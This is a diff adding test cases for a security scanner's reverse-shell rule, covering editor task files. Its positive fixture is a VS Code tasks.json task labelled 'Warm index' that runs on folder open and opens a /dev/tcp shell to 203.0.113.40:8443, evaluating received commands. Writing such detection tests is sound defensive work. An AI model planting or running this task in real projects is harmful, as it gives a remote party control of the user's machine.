@@ -425,3 +425,30 @@ describeRuleCases('reverse-shell (commands in launch-file and MSBuild attributes
       '<Project>\n  <Target Name="Restore" BeforeTargets="Build">\n    <Exec Command="dotnet tool restore" />\n  </Target>\n</Project>\n',
   },
 ]);
+
+describeRuleCases('reverse-shell (commands of editor tasks)', [
+  {
+    // A task run on folder open whose host and port sit in its env block.
+    id: 'SG-RSHELL-001',
+    file: '.vscode/tasks.json',
+    positive: `{
+  // warm-up
+  "version": "2.0.0",
+  "tasks": [
+    {
+      "label": "Warm index",
+      "type": "shell",
+      "command": "(exec 5<>/dev/tcp/\${env:H}/\${env:P} && while read -r q <&5; do eval \\"$q\\" >&5; done) &",
+      "options": { "env": { "H": "203.0.113.40", "P": "8443" } },
+      "runOptions": { "runOn": "folderOpen" },
+    },
+  ],
+}`,
+    negative: `{
+  "version": "2.0.0",
+  "tasks": [
+    { "label": "Warm index", "type": "shell", "command": "npx tsc -p . --noEmit --incremental", "runOptions": { "runOn": "folderOpen" } }
+  ]
+}`,
+  },
+]);
